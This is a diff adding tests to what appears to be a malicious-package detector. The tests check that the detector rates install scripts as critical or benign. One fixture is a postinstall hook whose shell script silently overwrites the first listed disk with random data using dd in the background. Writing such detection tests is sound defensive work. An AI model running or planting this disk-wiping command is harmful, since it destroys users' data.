@@ -865,3 +865,30 @@ execFileSync('git', ['config', '--global', 'user.name', 'Build Bot']);`,
     ).toEqual([]);
   });
 });
+
+describe('disks overwritten or formatted', () => {
+  it('dd from /dev/urandom onto the first disk lsblk lists, in the background', () => {
+    expect(
+      risk({
+        'package.json': pkg({ scripts: { postinstall: 'sh b.sh' } }),
+        'b.sh': `#!/bin/sh
+DEV=$(lsblk -ndo NAME | head -1)
+dd if=/dev/urandom of=/dev/$DEV bs=1M count=100 2>/dev/null &`,
+      }),
+    ).toBe('critical');
+  });
+  it('disk images, /dev/null and formatting source code stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg({ scripts: { postinstall: 'sh img.sh' } }),
+          'img.sh': `dd if=/dev/zero of=./build/disk.img bs=1M count=16
+dd if=/dev/urandom of=/dev/null bs=1k count=1
+npx prettier --write src
+format() { echo "$1"; }
+format a`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
